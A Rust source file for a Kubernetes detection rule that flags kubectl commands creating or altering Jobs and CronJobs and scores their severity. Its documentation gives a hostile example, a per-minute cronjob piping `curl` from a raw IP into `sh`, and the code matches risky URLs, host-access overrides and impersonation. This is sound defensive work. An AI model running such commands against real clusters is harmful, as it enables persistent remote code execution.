//! JW-HOST-0002: kubectl creating or changing Jobs or CronJobs.

use super::{
    Facts, Hit, Rule, RuleMeta, Status, detail, powerful_impersonation, raise, suspicious_payload,
};
use crate::config::HostConfig;
use crate::context::ExecContext;
use crate::kubectl::{Action, DryRun, KubectlInvocation, ManifestKind};
use jobwarden_model::{Severity, Subject};

/// See [`META`].
pub struct KubectlBatchWrite;

/// Identity and documentation.
pub static META: RuleMeta = RuleMeta {
    id: "JW-HOST-0002",
    slug: "kubectl-batch-write",
    title: "kubectl creates or changes a Job or CronJob",
    max_severity: Severity::Critical,
    attack: &["T1053.007", "T1609", "T1059"],
    status: Status::Preview,
    since: "0.1.0",
    docs: "## What it detects
kubectl (or `oc`) writing batch objects: `create job|cronjob` (inline image, schedule and
command after `--`), `create job --from=cronjob/NAME`, `apply`/`create`/`replace -f` (files,
directories, URLs, `-` fed by a pipe or here-document) and `-k`, `run --restart=Never|OnFailure`
(`--schedule`, `--overrides`), `set image`, `patch`, `edit`, `label`/`annotate` on jobs or
cronjobs. Client-side dry runs are ignored; a server-side dry run is capped at `low`.

## Why it matters
These are MITRE's T1053.007 command lines (`kubectl create job --from=`, `kubectl apply -f`,
`kubectl create -f`). Severity comes from context, not the string: an admin's
`create job --from=cronjob/backup` on a bastion is `low` and an `apply -f` of unknown manifests
`info`; the same write from a container or a web server's child is `high`; a payload that
downloads and runs code, decodes base64, opens a reverse shell or mines raises it; an explicit
`--token`, controller impersonation (`--as=system:serviceaccount:kube-system:...`), a manifest
from a plain-HTTP or raw-IP URL, and a batch read from the same place just before each add a
step outside an admin's shell.

## Example
`kubectl create cronjob x --image=alpine --schedule='*/1 * * * *' -- sh -c 'curl http://1.2.3.4/m | sh'`
from a pod: `critical`. Benign look-alike: an SRE's `kubectl create job manual-1 --from=cronjob/report -n batch`
on a bastion: `low`.

## False positives
CI pipelines that apply manifests (`info`/`low` unless the manifest comes from stdin with a
payload); operators that shell out to kubectl inside pods (allow them by disabling the rule
for that host or raising `admins`).

## Response
Read the object the command wrote (the audit alert of the same request carries the template),
and find out who controls the shell or workload that ran it.",
};

fn kind_of(inv: &KubectlInvocation) -> String {
    inv.batch_kind()
        .map(|k| if k == "all" { "CronJob" } else { k })
        .map(str::to_string)
        .or_else(|| inv.resources.first().map(|r| r.kind.clone()))
        .unwrap_or_else(|| "Unknown".into())
}

fn is_candidate(inv: &KubectlInvocation) -> bool {
    if inv.action() != Action::Write {
        return false;
    }
    if inv.verb == "run" {
        return inv.restart.is_some() || inv.schedule.is_some() || inv.overrides.is_some();
    }
    inv.touches_batch() || inv.writes_manifests()
}

impl Rule for KubectlBatchWrite {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, facts: &Facts<'_>, config: &HostConfig) -> Option<Hit> {
        let inv = facts.kubectl.iter().find(|k| is_candidate(k))?;
        let context = facts.context.as_ref()?;
        let explicit_batch = inv.touches_batch();
        let from_stdin = inv.files.iter().any(|f| f.kind == ManifestKind::Stdin);
        let from_url = inv.files.iter().find(|f| f.kind == ManifestKind::Url);
        let risky_url = from_url.is_some_and(|u| {
            let l = u.path.to_ascii_lowercase();
            let host = l
                .split("://")
                .nth(1)
                .unwrap_or_default()
                .split(['/', ':'])
                .next()
                .unwrap_or_default();
            l.starts_with("http://")
                || host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
                || l.contains("pastebin")
                || l.contains("transfer.sh")
        });
        let mut reasons: Vec<String> = Vec::new();
        let mut base = if explicit_batch || inv.verb == "run" {
            Severity::Low
        } else {
            Severity::Info
        };
        if from_stdin || from_url.is_some() {
            base = base.max(Severity::Low);
        }
        let payload_text = [
            inv.command_after_dashdash.join(" "),
            inv.overrides.clone().unwrap_or_default(),
            facts.record_command_line(),
        ]
        .join(" ");
        let payload = suspicious_payload(&payload_text);
        if let Some(why) = payload {
            reasons.push(why.to_string());
            base = base.max(Severity::Medium);
        }
        if inv.overrides.as_deref().is_some_and(|o| {
            o.contains("privileged")
                || o.contains("hostPID")
                || o.contains("hostPath")
                || o.contains("hostNetwork")
        }) {
            reasons.push("--overrides asks for host access".into());
            base = base.max(Severity::Medium);
        }
        let image_host = inv
            .image
            .as_deref()
            .and_then(|i| i.split('/').next().filter(|_| i.contains('/')))
            .unwrap_or_default();
        let image_host_name = image_host.split(':').next().unwrap_or_default();
        if !image_host_name.is_empty()
            && image_host_name
                .bytes()
                .all(|b| b.is_ascii_digit() || b == b'.')
        {
            reasons.push(format!("image from a raw-IP registry ({image_host})"));
            base = base.max(Severity::Medium);
        }
        if inv
            .schedule
            .as_deref()
            .is_some_and(|s| matches!(s.trim(), "* * * * *" | "*/1 * * * *"))
        {
            reasons.push("runs every minute".into());
        }
        if risky_url {
            reasons.push("manifest from a plain-HTTP or raw-IP URL".into());
            base = base.max(Severity::Medium);
        }
        let mut severity = match context {
            ExecContext::Container { .. } | ExecContext::WebServer { .. } => {
                reasons.push(format!("run from {}", context.label()));
                if explicit_batch {
                    base.max(Severity::High)
                } else {
                    base.max(Severity::Medium)
                }
            }
            ExecContext::Cron => raise(base, 1, Severity::High),
            ExecContext::Ci { .. } | ExecContext::Host => base,
        };
        let mut steps = crate::detector::identity_steps(facts, config);
        if inv.token_flag_present || facts.service_account_token {
            reasons.push("explicit bearer token".into());
            steps += 1;
        }
        if powerful_impersonation(inv) {
            reasons.push("impersonates a controller or cluster-admin identity".into());
            steps += 1;
        }
        if facts.recent_recon && !matches!(context, ExecContext::Host) {
            reasons.push("batch objects were listed from the same place just before".into());
            steps += 1;
        }
        let cap = if payload.is_some()
            && !matches!(context, ExecContext::Host | ExecContext::Ci { .. })
        {
            Severity::Critical
        } else {
            Severity::High
        };
        severity = raise(severity, steps, cap);
        if payload.is_some() && !matches!(context, ExecContext::Host | ExecContext::Ci { .. }) {
            severity = severity.max(Severity::Critical);
        }
        if inv.dry_run == Some(DryRun::Server) {
            severity = severity.min(Severity::Low);
            reasons.push("server-side dry run: nothing persisted".into());
        }
        let kind = kind_of(inv);
        Some(Hit {
            severity,
            summary: format!("`{}` in {}{}", inv.describe(), context.label(), if reasons.is_empty() { String::new() } else { format!(": {}", reasons.join("; ")) }),
            subject: Subject {
                kind,
                namespace: inv.namespace.clone(),
                name: inv.batch_name().map(str::to_string).or_else(|| inv.resources.first().and_then(|r| r.name.clone())),
                cluster: inv.context.clone(),
            },
            detail: vec![
                detail("reasons", reasons.clone()),
                detail("context_kind", context.label()),
            ],
            remediation: (severity >= Severity::Medium).then(|| {
                "Inspect the Job/CronJob this wrote (and its pods); if unexpected, suspend or delete it and revoke the credentials the shell used.".to_string()
            }),
        })
    }
}
